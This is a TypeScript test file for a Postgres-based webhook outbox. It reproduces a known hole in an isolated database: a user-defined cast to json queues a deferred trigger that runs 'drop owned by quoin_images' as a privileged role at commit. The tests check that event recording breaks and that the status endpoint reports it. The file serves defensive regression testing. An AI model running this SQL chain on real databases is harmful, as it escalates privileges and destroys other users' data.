// What a service_role key can do to everybody's webhooks from inside a cast to json, which runs as the role
// `quoin_images` while a row becomes an image. In a database of the file's own: what the attack drops is this
// database's alone.

import { afterAll, beforeAll, describe, expect, it, test } from 'vitest'
import { type OutboxDatabase, openOutboxDatabase } from '../contract/outbox-database.ts'
import { platformStatusOf } from '../support/platform-status.ts'

let db: OutboxDatabase

beforeAll(async () => {
  db = await openOutboxDatabase()
})

afterAll(async () => {
  await db.end()
})

/**
 * An image is made in a read-only subtransaction, but a temporary table may be written there. Its deferred trigger
 * runs at COMMIT, when nothing is read-only any more, and since Postgres 18 as the role under which it was queued.
 */
async function dropWhatMakesImages(): Promise<void> {
  const caller = await db.connect('service_role')
  await caller.query(`
    create type public.mood as enum ('fine');
    create table public.trap (id int primary key, mood public.mood);
    create temporary table fuse (id int);
    grant insert on fuse to public;
    create function public.blow() returns trigger language plpgsql as $$
      begin drop owned by quoin_images; return null; end $$;
    create constraint trigger blow after insert on fuse deferrable initially deferred
      for each row execute function public.blow();
    create function public.light(mood public.mood) returns json language plpgsql as $$
      begin insert into pg_temp.fuse values (1); return '1'; end $$;
    create cast (public.mood as json) with function public.light(public.mood)`)
  await db.watch('public.trap')
  await caller.query(`insert into public.trap values (1, 'fine')`)
}

describe("a user's cast to json that leaves code for the end of its transaction", () => {
  let others: string

  beforeAll(async () => {
    // Not of the types for which no image has to be made by those functions.
    others = await db.watched('id int primary key, tags text[]')
    await db.addWebhook(others, ['INSERT', 'UPDATE', 'DELETE'])
    await dropWhatMakesImages()
  })

  // Expected to fail until no role of ours runs a user's code: casts run as the writer, and the outbox gets finished
  // JSON.
  test.fails("cannot break recording for others' tables", async () => {
    await db.owner.query(`insert into ${others} values (1, '{a}')`)
    await db.owner.query(`update ${others} set tags = '{b}'`)
    expect(await db.events(others)).toEqual(['INSERT ["1"]', 'UPDATE ["1"]'])
  })

  // Goes with the attack.
  it('does not break it in silence: GET /v1/status names the tables', async () => {
    expect(await platformStatusOf(db.platform)).toMatchObject({
      status: 'degraded',
      webhooks: { unrecorded_tables: [others] },
      problems: [
        expect.stringMatching(/cannot be recorded: quoin\.make_image, quoin\.make_images is missing/),
      ],
    })
  })
})
